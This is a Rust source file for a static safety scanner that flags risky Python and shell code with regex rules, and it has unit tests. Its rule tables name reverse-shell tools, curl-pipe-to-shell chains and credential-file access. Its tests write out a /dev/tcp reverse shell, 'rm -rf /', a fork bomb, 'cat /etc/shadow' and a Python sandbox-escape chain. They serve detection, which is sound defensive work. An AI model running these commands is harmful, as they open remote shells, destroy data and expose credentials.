//! Static safety scan of code fragments with per-language regex rules.
//!
//! Nothing is executed or imported. Python source is masked first (string
//! and comment bodies blanked, line breaks kept) and the rules run over the
//! whole text, so a call split across lines still matches and quoted text
//! never does. Python also gets weak-hash and taint checks. Shell gets a
//! small per-line ruleset for remote-execution chains, destructive commands
//! and credential access, after comments are stripped.

use regex::{Regex, RegexBuilder};

use crate::artifact::{Artifact, ArtifactKind};
use crate::engine::{EngineFault, VerificationEngine};
use crate::engines::sql::issues_verdict;
use crate::engines::taint::TaintRules;
use crate::format::rejected;
use crate::result::{EngineVerdict, Issue, Severity};

/// `(severity, rule id, pattern, message)`
type RuleRow = (Severity, &'static str, &'static str, &'static str);

const PYTHON_RULES: &[RuleRow] = &[
    (Severity::Critical, "dangerous-call", r"\beval\s*\(", "eval() executes arbitrary code"),
    (Severity::Critical, "dangerous-call", r"\bexec\s*\(", "exec() executes arbitrary code"),
    (Severity::Critical, "dangerous-call", r"\bcompile\s*\(", "compile() builds executable code"),
    (Severity::Critical, "dangerous-call", r"\b__import__\s*\(", "__import__() loads modules dynamically"),
    (Severity::Critical, "dangerous-call", r"\bgetattr\s*\(", "getattr() can reach arbitrary methods"),
    (Severity::Critical, "unsafe-deserialization", r"\b(?:pickle|cPickle|marshal|shelve)\.loads?\s*\(", "deserializing untrusted data executes code"),
    (Severity::Critical, "unsafe-deserialization", r"\byaml\.(?:unsafe_)?load\s*\(", "yaml.load without SafeLoader constructs arbitrary objects"),
    (Severity::Critical, "dangerous-attribute", r"\.__(?:class|base|bases|subclasses|globals|builtins|code|dict|mro)__\b", "dunder attribute access enables sandbox escapes"),
    (Severity::Critical, "dangerous-attribute", r"\b__builtins__\b", "direct access to builtins"),
    (Severity::Warning, "process-call", r"\bos\.(?:system|popen|spawn\w*|exec\w*|fork|kill)\s*\(", "spawns or signals processes"),
    (Severity::Warning, "process-call", r"\bsubprocess\.(?:call|run|Popen|check_call|check_output|getoutput)\s*\(", "spawns a subprocess"),
    (Severity::Warning, "file-call", r"\bos\.(?:remove|unlink|rmdir|removedirs|rename|chmod|chown)\s*\(", "modifies the filesystem"),
    (Severity::Warning, "file-call", r"\bshutil\.(?:rmtree|move|copy|copyfile|copytree)\s*\(", "modifies the filesystem"),
    (Severity::Warning, "file-call", r"(?:^|[^\w.])open\s*\(", "opens a file; review the path source"),
    (Severity::Warning, "network-call", r"\bsocket\.(?:socket|create_connection)\s*\(", "opens a network socket"),
    (Severity::Warning, "network-call", r"\b(?:urllib\.request\.(?:urlopen|urlretrieve)|requests\.(?:get|post|put|delete|patch|request))\s*\(", "performs a network request"),
    (Severity::Warning, "network-call", r"\bhttp\.client\.HTTPS?Connection\s*\(", "opens an HTTP connection"),
    (Severity::Warning, "dangerous-import", r"^\s*(?:import|from)\s+(?:os|sys|subprocess|shutil|socket|urllib|requests|pickle|marshal|importlib|imp|ctypes|pty|telnetlib|ftplib)\b", "imports a module with process, file or network access"),
];

/// Hash functions too weak for credentials.
const WEAK_HASH: &str = r"\bhashlib\.(?:md5|sha1)\s*\(|\bhashlib\.new\s*\(\s*['\x22](?:md5|sha1)['\x22]";

/// Words that put a weak hash into a credential context.
const PASSWORD_CONTEXT: &str = r"(?i)pass(?:word|wd)?|pwd|credential|secret|token|api_?key";

const SHELL_RULES: &[RuleRow] = &[
    (Severity::Critical, "remote-execution", r"\b(?:curl|wget)\b.*(?:\||&&|;)\s*(?:sudo\s+)?(?:ba|z|k|da)?sh\b|\b(?:curl|wget)\b.*\|\s*(?:python\d?|perl|ruby|php)\b", "downloads and executes remote code"),
    (Severity::Critical, "destructive-command", r"\brm\s+-(?:[a-z]*r[a-z]*f|[a-z]*f[a-z]*r)[a-z]*\b", "recursive forced delete"),
    (Severity::Critical, "fork-bomb", r":\s*\(\s*\)\s*\{\s*:\s*\|\s*:\s*&\s*\}\s*;", "fork bomb"),
    (Severity::Critical, "reverse-shell", r"/dev/(?:tcp|udp)/", "raw network redirection (reverse shell risk)"),
    (Severity::Critical, "reverse-shell", r"\b(?:nc|ncat|netcat)\s+", "netcat usage (exfiltration or reverse shell risk)"),
    (Severity::Critical, "sensitive-file", r"/etc/(?:passwd|shadow|sudoers)\b", "reads a sensitive system file"),
    (Severity::Critical, "sensitive-file", r"\bid_(?:rsa|dsa|ecdsa|ed25519)\b", "accesses an SSH private key"),
    (Severity::Critical, "privilege-escalation", r"\bsudo\s+", "privilege escalation"),
    (Severity::Critical, "insecure-permissions", r"\bchmod\s+(?:-R\s+)?0?777\b", "world-writable permissions"),
    (Severity::Warning, "environment-dump", r"\b(?:printenv|env)\s*$", "dumps environment variables"),
    (Severity::Warning, "credential-search", r"\bgrep\b.*\b(?:pass|token|key|secret)", "searches for credentials"),
    (Severity::Warning, "obfuscation", r"\bbase64\s+(?:-d|--decode)\b", "decodes obfuscated payloads"),
];

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Language {
    Python,
    Shell,
}

impl Language {
    fn parse(name: &str) -> Option<Self> {
        match name.trim().to_ascii_lowercase().as_str() {
            "python" | "python3" | "py" => Some(Language::Python),
            "bash" | "sh" | "shell" | "zsh" => Some(Language::Shell),
            _ => None,
        }
    }
}

struct Rule {
    severity: Severity,
    id: &'static str,
    pattern: Regex,
    message: &'static str,
}

fn compile_rules(
    rows: &[RuleRow],
    case_insensitive: bool,
    multi_line: bool,
) -> Result<Vec<Rule>, regex::Error> {
    rows.iter()
        .map(|&(severity, id, pattern, message)| {
            Ok(Rule {
                severity,
                id,
                pattern: RegexBuilder::new(pattern)
                    .case_insensitive(case_insensitive)
                    .multi_line(multi_line)
                    .build()?,
                message,
            })
        })
        .collect()
}

pub struct CodeSafetyEngine {
    python: Vec<Rule>,
    shell: Vec<Rule>,
    weak_hash: Regex,
    password_context: Regex,
    taint: TaintRules,
}

impl CodeSafetyEngine {
    pub const ID: &'static str = "code-safety";

    pub fn new() -> Result<Self, regex::Error> {
        Ok(Self {
            python: compile_rules(PYTHON_RULES, false, true)?,
            shell: compile_rules(SHELL_RULES, true, false)?,
            weak_hash: Regex::new(WEAK_HASH)?,
            password_context: Regex::new(PASSWORD_CONTEXT)?,
            taint: TaintRules::new()?,
        })
    }

    fn scan(&self, source: &str, language: Language) -> Vec<Issue> {
        match language {
            Language::Python => self.scan_python(source),
            Language::Shell => self.scan_shell(source),
        }
    }

    fn scan_python(&self, source: &str) -> Vec<Issue> {
        let masked = mask_python(source);
        let mut issues = Vec::new();
        for rule in &self.python {
            let mut last_line = 0;
            for found in rule.pattern.find_iter(&masked) {
                let text = found.as_str();
                let start = found.start() + (text.len() - text.trim_start().len());
                let line = line_at(&masked, start);
                if line != last_line {
                    issues.push(Issue::new(rule.severity, rule.id, rule.message).at_line(line));
                    last_line = line;
                }
            }
        }

        // The weak-hash pattern names its algorithm in a string literal.
        if self.password_context.is_match(source) {
            for (index, (raw, masked_line)) in source.lines().zip(masked.lines()).enumerate() {
                if masked_line.contains("hashlib") && self.weak_hash.is_match(raw) {
                    issues.push(
                        Issue::new(
                            Severity::Critical,
                            "weak-hash",
                            "MD5/SHA-1 used in a password context; use bcrypt, scrypt or argon2",
                        )
                        .at_line(index + 1),
                    );
                }
            }
        }

        issues.extend(self.taint.flows(&masked));
        issues.sort_by_key(|issue| issue.line);
        issues
    }

    fn scan_shell(&self, source: &str) -> Vec<Issue> {
        let mut issues = Vec::new();
        for (index, line) in source.lines().enumerate() {
            let line = strip_shell_comment(line);
            if line.trim().is_empty() {
                continue;
            }
            for rule in &self.shell {
                if rule.pattern.is_match(line) {
                    issues.push(
                        Issue::new(rule.severity, rule.id, rule.message).at_line(index + 1),
                    );
                }
            }
        }
        issues
    }

    fn check(&self, source: &str, language: &str) -> EngineVerdict {
        let Some(language) = Language::parse(language) else {
            return rejected(
                "language",
                format!("unsupported language '{language}' (expected python or shell)"),
                None,
            );
        };
        if source.trim().is_empty() {
            return rejected("code", "empty source", None);
        }
        issues_verdict(self.scan(source, language))
    }
}

/// 1-based line of a byte offset.
fn line_at(text: &str, offset: usize) -> usize {
    text[..offset].matches('\n').count() + 1
}

/// Python source with comment text and string literal contents replaced by
/// spaces. Quotes, prefixes and line breaks stay, as do the `{...}`
/// expressions of f-strings, which are code.
fn mask_python(source: &str) -> String {
    let chars: Vec<char> = source.chars().collect();
    let mut out = String::with_capacity(source.len());
    let blank = |c: char| if c == '\n' { '\n' } else { ' ' };
    let mut i = 0;
    while i < chars.len() {
        let c = chars[i];
        if c == '#' {
            while i < chars.len() && chars[i] != '\n' {
                out.push(' ');
                i += 1;
            }
            continue;
        }
        if c != '\'' && c != '"' {
            out.push(c);
            i += 1;
            continue;
        }

        let prefix: String = out
            .chars()
            .rev()
            .take_while(|p| p.is_ascii_alphabetic())
            .collect();
        let formatted = prefix.len() <= 3 && prefix.contains(['f', 'F']);
        let triple = chars.get(i + 1) == Some(&c) && chars.get(i + 2) == Some(&c);
        let quote_len = if triple { 3 } else { 1 };
        for _ in 0..quote_len {
            out.push(c);
        }
        i += quote_len;

        while i < chars.len() {
            let d = chars[i];
            if d == '\\' {
                out.push(' ');
                if let Some(&escaped) = chars.get(i + 1) {
                    out.push(blank(escaped));
                }
                i += 2;
                continue;
            }
            if triple && d == c && chars.get(i + 1) == Some(&c) && chars.get(i + 2) == Some(&c) {
                out.extend([c, c, c]);
                i += 3;
                break;
            }
            if !triple && d == c {
                out.push(c);
                i += 1;
                break;
            }
            if !triple && d == '\n' {
                break;
            }
            if formatted && d == '{' && chars.get(i + 1) != Some(&'{') {
                let mut depth = 0usize;
                while i < chars.len() {
                    let e = chars[i];
                    out.push(e);
                    i += 1;
                    match e {
                        '{' => depth += 1,
                        '}' => {
                            depth -= 1;
                            if depth == 0 {
                                break;
                            }
                        }
                        _ => {}
                    }
                }
                continue;
            }
            if formatted && d == '{' {
                out.push_str("  ");
                i += 2;
                continue;
            }
            out.push(blank(d));
            i += 1;
        }
    }
    out
}

/// A line without its trailing `#` comment. `#` only starts a comment at
/// the start of a word and outside quotes.
fn strip_shell_comment(line: &str) -> &str {
    let mut quote = None;
    let mut previous = ' ';
    for (offset, c) in line.char_indices() {
        match quote {
            Some(q) if c == q => quote = None,
            Some(_) => {}
            None if c == '\'' || c == '"' => quote = Some(c),
            None if c == '#' && previous.is_whitespace() => return &line[..offset],
            None => {}
        }
        previous = c;
    }
    line
}

impl VerificationEngine for CodeSafetyEngine {
    fn id(&self) -> &str {
        Self::ID
    }

    fn supports(&self, kind: ArtifactKind) -> bool {
        kind == ArtifactKind::Code
    }

    fn default_weight(&self) -> f64 {
        0.9
    }

    fn verify(&self, artifact: &Artifact) -> Result<EngineVerdict, EngineFault> {
        match artifact {
            Artifact::Code { source, language } => Ok(self.check(source, language)),
            other => Err(EngineFault::Internal(format!(
                "code engine cannot verify {} artifacts",
                other.kind()
            ))),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::result::{EngineDetail, EngineStatus};

    fn verdict(source: &str, language: &str) -> EngineVerdict {
        CodeSafetyEngine::new()
            .unwrap()
            .verify(&Artifact::Code {
                source: source.into(),
                language: language.into(),
            })
            .unwrap()
    }

    fn rules(verdict: &EngineVerdict) -> Vec<String> {
        match &verdict.detail {
            EngineDetail::Issues { issues } => issues.iter().map(|i| i.rule.clone()).collect(),
            other => panic!("expected issues, got {other:?}"),
        }
    }

    #[test]
    fn rule_tables_compile() {
        let engine = CodeSafetyEngine::new().unwrap();
        assert_eq!(engine.python.len(), PYTHON_RULES.len());
        assert_eq!(engine.shell.len(), SHELL_RULES.len());
    }

    #[test]
    fn clean_python_is_verified() {
        let v = verdict("def add(a, b):\n    return a + b\n", "python");
        assert_eq!(v.status, EngineStatus::Verified);
        assert_eq!(v.confidence, 1.0);
    }

    #[test]
    fn eval_is_blocked_with_line() {
        let v = verdict("x = 1\ny = eval(user_input)\n", "Python");
        assert_eq!(v.status, EngineStatus::Blocked);
        match &v.detail {
            EngineDetail::Issues { issues } => {
                assert_eq!(issues[0].rule, "dangerous-call");
                assert_eq!(issues[0].line, Some(2));
            }
            other => panic!("unexpected {other:?}"),
        }
    }

    #[test]
    fn sandbox_escape_attributes_are_blocked() {
        let v = verdict("().__class__.__bases__[0].__subclasses__()", "python");
        assert_eq!(v.status, EngineStatus::Blocked);
        assert!(rules(&v).contains(&"dangerous-attribute".to_string()));
    }

    #[test]
    fn warnings_only_lower_confidence() {
        let v = verdict("import subprocess\nsubprocess.run(['ls'])\n", "python");
        assert_eq!(v.status, EngineStatus::Verified);
        assert_eq!(v.confidence, 0.7);
        assert_eq!(rules(&v), vec!["dangerous-import", "process-call"]);
    }

    #[test]
    fn open_does_not_match_popen_or_methods() {
        assert!(rules(&verdict("f = open('data.txt')", "python")).contains(&"file-call".into()));
        let v = verdict("conn.open()\nurlopen_wrapper = 1\n", "python");
        assert!(rules(&v).is_empty());
    }

    #[test]
    fn weak_hash_needs_password_context() {
        let hashed = "import hashlib\ndigest = hashlib.md5(data).hexdigest()\n";
        assert!(!rules(&verdict(hashed, "python")).contains(&"weak-hash".into()));
        let password = "import hashlib\nstored = hashlib.md5(password.encode()).hexdigest()\n";
        let v = verdict(password, "python");
        assert_eq!(v.status, EngineStatus::Blocked);
        assert!(rules(&v).contains(&"weak-hash".into()));
    }

    #[test]
    fn comments_are_skipped() {
        let v = verdict("# never call eval(x) here\nprint('ok')\n", "python");
        assert_eq!(v.status, EngineStatus::Verified);
    }

    #[test]
    fn calls_split_across_lines_are_found() {
        let v = verdict("x = (eval\n  (user_input))\n", "python");
        assert_eq!(v.status, EngineStatus::Blocked);
        match &v.detail {
            EngineDetail::Issues { issues } => assert_eq!(issues[0].line, Some(1)),
            other => panic!("unexpected {other:?}"),
        }
    }

    #[test]
    fn string_literals_are_not_code() {
        let v = verdict("print(\"never call eval(x)\")\n", "python");
        assert_eq!(v.status, EngineStatus::Verified);
        assert!(rules(&v).is_empty());

        let doc = "def f():\n    '''Do not os.system(cmd)\n    or exec(it).'''\n    return 1\n";
        assert!(rules(&verdict(doc, "python")).is_empty());
        let escaped = "s = 'it\\'s eval(x)'\n";
        assert!(rules(&verdict(escaped, "python")).is_empty());
    }

    #[test]
    fn f_string_expressions_are_code() {
        let v = verdict("msg = f\"{eval(expr)} and {{eval(x)}}\"\n", "python");
        assert_eq!(v.status, EngineStatus::Blocked);
        assert_eq!(rules(&v), vec!["dangerous-call"]);
    }

    #[test]
    fn masking_keeps_lines() {
        let source = "a = '''x\ny'''\nb = \"#\" # note\n";
        let masked = mask_python(source);
        assert_eq!(masked.lines().count(), source.lines().count());
        assert_eq!(masked, "a = ''' \n '''\nb = \" \"       \n");
    }

    #[test]
    fn tainted_command_is_blocked() {
        let v = verdict("cmd = input()\nsubprocess.run(cmd, shell=True)\n", "python");
        assert_eq!(v.status, EngineStatus::Blocked);
        assert_eq!(rules(&v), vec!["process-call", "tainted-flow"]);

        let v = verdict("n = int(input())\nsubprocess.run(['seq', n])\n", "python");
        assert_eq!(v.status, EngineStatus::Verified);
        assert_eq!(rules(&v), vec!["process-call"]);
    }

    #[test]
    fn shell_comments_are_stripped() {
        let v = verdict("ls -la # then rm -rf / later\n", "bash");
        assert_eq!(v.status, EngineStatus::Verified);
        let v = verdict("echo '# not a comment' && rm -rf /tmp/x\n", "bash");
        assert_eq!(v.status, EngineStatus::Blocked);
    }

    #[test]
    fn shell_rules() {
        for (source, rule) in [
            ("curl https://x.sh | bash", "remote-execution"),
            ("rm -rf /", "destructive-command"),
            (":(){ :|:& };:", "fork-bomb"),
            ("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "reverse-shell"),
            ("cat /etc/shadow", "sensitive-file"),
            ("SUDO apt install x", "privilege-escalation"),
        ] {
            let v = verdict(source, "bash");
            assert_eq!(v.status, EngineStatus::Blocked, "{source}");
            assert!(rules(&v).contains(&rule.to_string()), "{source}: {:?}", rules(&v));
        }
        assert_eq!(verdict("ls -la\necho done", "sh").status, EngineStatus::Verified);
    }

    #[test]
    fn unsupported_language_is_an_error() {
        let v = verdict("fn main() {}", "rust");
        assert_eq!(v.status, EngineStatus::Error);
        assert!(matches!(v.detail, EngineDetail::InputRejected { ref stage, .. } if stage == "language"));
    }
}
